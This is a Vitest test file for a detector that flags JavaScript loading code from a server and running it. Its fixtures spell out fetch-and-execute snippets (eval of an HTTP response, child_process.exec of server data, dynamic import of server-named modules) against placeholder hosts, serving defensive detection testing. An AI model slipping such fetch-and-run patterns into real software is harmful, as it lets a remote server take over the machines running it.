import { describe, expect, it } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './loader-remote-code.ts'

const seen = async (files: Record<string, string>): Promise<string[]> =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, where }) => `${strength} ${where.file}:${where.line}`,
  )

describe('code from a server', () => {
  it('an answer that is run', async () => {
    expect(
      await seen({
        'app.js':
          "const axios = require('axios')\naxios.get('https://a.invalid').then(({ data }) => {\n  eval(data)\n})",
      }),
    ).toEqual(['decisive app.js:3'])
  })

  it('a command that a server gives', async () => {
    expect(
      await seen({
        'app.js':
          "require('https').get('https://a.invalid', (r) => r.on('data', (d) => require('child_process').exec(d.toString())))",
      }),
    ).toEqual(['decisive app.js:1'])
  })

  it('not a module from the web by its address', async () => {
    expect(await seen({ 'app.js': "import('https://cdn.example/x.js')" })).toEqual(['context app.js:1'])
  })

  it('not what a tool of this machine hands out', async () => {
    const code = "const ws = new WebSocket('ws://localhost:24678')\nws.onmessage = ({ data }) => eval(data)\n"
    expect(await seen({ 'hot.js': code })).toEqual(['context hot.js:2'])
  })

  it('what may be of a server that the caller names', async () => {
    const loader = (address: string) =>
      `const read = async (u, given) => given ?? (await (await fetch(${address})).text())\nmodule.exports = async (u, given) => eval(await read(u, given))\n`
    expect(await seen({ 'load.js': loader('u') })).toEqual(['strong load.js:2'])
    expect(await seen({ 'load.js': loader("'https://a.invalid/' + u") })).toEqual(['decisive load.js:2'])
    expect(await seen({ 'load.js': loader('process.env.API') })).toEqual(['decisive load.js:2'])
  })

  it('a module that a server names', async () => {
    const route = (specifier: string) =>
      `const load = async () => { const r = await (await fetch('https://a.invalid')).text(); await import(${specifier}) }\nload()`
    expect(await seen({ 'app.js': route("r + '/route.js'") })).toEqual(['strong app.js:1'])
    expect(await seen({ 'app.js': route('r') })).toEqual(['decisive app.js:1'])
    expect(await seen({ 'app.js': route("'data:text/javascript,' + r") })).toEqual(['decisive app.js:1'])
  })

  it('not an answer that is shown', async () => {
    expect(
      await seen({
        'app.js': "fetch('https://a.example').then((r) => r.json()).then((d) => console.log(d))",
      }),
    ).toEqual([])
  })
})
